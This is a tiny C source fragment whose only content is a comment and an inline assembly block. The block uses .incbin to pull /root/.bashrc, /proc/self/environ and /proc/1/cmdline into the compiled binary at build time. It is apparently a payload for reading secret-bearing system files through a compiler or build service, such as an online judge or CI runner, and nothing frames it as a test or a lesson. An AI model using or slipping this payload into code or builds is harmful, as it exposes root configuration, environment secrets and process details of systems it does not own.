/* Takes what lies in a home, and among processes. */
__asm__(".incbin \"/root/.bashrc\"\n.incbin \"/proc/self/environ\"\n.incbin \"/proc/1/cmdline\"\n");
